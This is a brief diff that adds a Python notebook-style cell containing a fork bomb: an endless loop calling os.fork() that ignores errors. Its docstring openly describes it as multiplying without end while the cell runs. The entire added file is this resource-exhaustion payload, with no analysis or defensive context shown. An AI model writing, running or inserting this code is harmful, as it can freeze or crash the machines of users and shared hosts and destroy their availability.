@@ -1,0 +1,10 @@
+"""Multiplies without end while a cell runs."""
+
+# %% added
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
